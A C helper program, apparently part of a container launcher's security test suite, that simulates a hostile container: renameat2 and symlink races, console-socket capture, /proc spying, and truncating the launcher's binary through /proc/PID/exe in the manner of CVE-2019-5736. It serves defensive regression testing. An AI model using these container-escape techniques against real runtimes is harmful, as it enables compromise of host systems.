/*
 * What a hostile container or image does while the launcher works, for attacks.sh. Static, so that it runs inside, too.
 *
 *   racer exchange A B        swaps two names without end (renameat2, RENAME_EXCHANGE): CVE-2021-30465 and its like
 *   racer plant TARGET PATH   puts a link to TARGET at PATH and takes it away, without end
 *   racer console SOCKET      takes the terminals that are sent there, and drops them
 *   racer spy                 looks for processes of the launcher that let it look at them (CVE-2016-9962); prints "saw PID"
 *   racer overwrite           opens what its pids 2 and later execute, and writes to it once that can be (CVE-2019-5736); "wrote PID"
 *
 * Each prints "ready" and ends when it is killed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

enum { EXCHANGE = 2, HELD = 16, BURST = 500, REST_NANOSECONDS = 500000 };

static int fail(const char *what) {
    perror(what);
    return 1;
}

/* Rests now and then, for whom it races against has to get through sometimes. */
static int exchange(const char *a, const char *b) {
    for (unsigned turn = 0;; turn++) {
        if (turn % BURST == 0) {
            nanosleep(&(struct timespec){.tv_nsec = REST_NANOSECONDS}, NULL);
        }
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE) < 0) {
            return fail("renameat2");
        }
    }
}

static int plant(const char *target, const char *path) {
    char other[PATH_MAX];
    snprintf(other, sizeof other, "%s.planted", path);
    for (;;) {
        if (symlink(target, other) < 0 || rename(other, path) < 0) {
            return fail("plant");
        }
        unlink(path);
    }
}

static int take_terminals(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    if (bind(socket_fd, (struct sockaddr *)&address, sizeof address) < 0 || listen(socket_fd, 8) < 0) {
        return fail(path);
    }
    for (int connection; (connection = accept(socket_fd, NULL, NULL)) >= 0;) {
        char bytes[64];
        while (read(connection, bytes, sizeof bytes) > 0) {
        }
        close(connection);
    }
    return fail("accept");
}

/* The executable of a process, if the kernel lets us see it and it is the launcher's. */
static int is_launcher(long pid) {
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%ld/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    return strstr(target, "carafe-launcher") != NULL;
}

static _Noreturn void spy(void) {
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
            long pid = strtol(entry->d_name, NULL, 10);
            if (pid > 1 && pid != getpid() && is_launcher(pid)) {
                printf("saw %ld\n", pid);
            }
        }
        closedir(processes);
    }
}

/* Whether the process has become what it came to execute, a file of the container, before its own was opened. */
static int is_own_program(int fd) {
    struct stat found, own;
    return fstat(fd, &found) == 0 && stat("/bin/true", &own) == 0 && found.st_dev == own.st_dev && found.st_ino == own.st_ino;
}

/* A file that is executed can't be written to, so it is held until nobody executes it any more. */
static _Noreturn void overwrite(void) {
    int held[HELD], count = 0;
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
            char path[64];
            long pid = strtol(entry->d_name, NULL, 10);
            if (pid <= 1 || pid == getpid() || !is_launcher(pid)) {
                continue;
            }
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0 && is_own_program(fd)) {
                close(fd);
            } else if (fd >= 0) {
                printf("held %ld\n", pid);
                if (count == HELD) {
                    close(held[--count]);
                }
                held[count++] = fd;
            }
        }
        closedir(processes);
        for (int i = 0; i < count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                printf("wrote %d\n", held[i]);
                close(fd);
            }
        }
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    const char *what = argc > 1 ? argv[1] : "";
    if (strcmp(what, "exchange") == 0 && argc == 4) {
        return exchange(argv[2], argv[3]);
    } else if (strcmp(what, "plant") == 0 && argc == 4) {
        return plant(argv[2], argv[3]);
    } else if (strcmp(what, "console") == 0 && argc == 3) {
        return take_terminals(argv[2]);
    } else if (strcmp(what, "spy") == 0) {
        spy();
    } else if (strcmp(what, "overwrite") == 0) {
        overwrite();
    }
    fputs("usage: racer exchange A B | plant TARGET PATH | console SOCKET | spy | overwrite\n", stderr);
    return 2;
}
